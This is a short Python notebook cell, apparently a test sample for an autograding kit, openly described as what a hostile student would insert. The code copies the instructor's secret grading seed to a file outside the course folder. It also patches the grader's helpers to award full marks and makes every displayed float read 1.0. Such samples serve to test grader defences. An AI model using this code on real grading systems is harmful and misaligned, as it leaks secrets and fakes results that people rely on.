# A cell a hostile student adds to the released notebook, before the
# graded cells. In a kernel (plain `nbgrader autograde`) it steals the
# instructor's secret seed into the course folder, patches the kit's
# notebook helpers, and makes every float the kernel displays read 1.0,
# so that each autograded cell "returns" 1 point.
import os
import pathlib

import grader.output.notebook as kit_notebook

stolen = os.environ.get("GRADER_SEED", "")
pathlib.Path("../../../stolen_seed.txt").write_text(stolen)
kit_notebook.nbgrader_credits = lambda report, assignment: {
    item.id: item.points for item in assignment.items}
kit_notebook.cell_text = lambda *args: "all good"
formatter = get_ipython().display_formatter.formatters["text/plain"]
formatter.for_type(float, lambda value, printer, cycle: printer.text("1.0"))
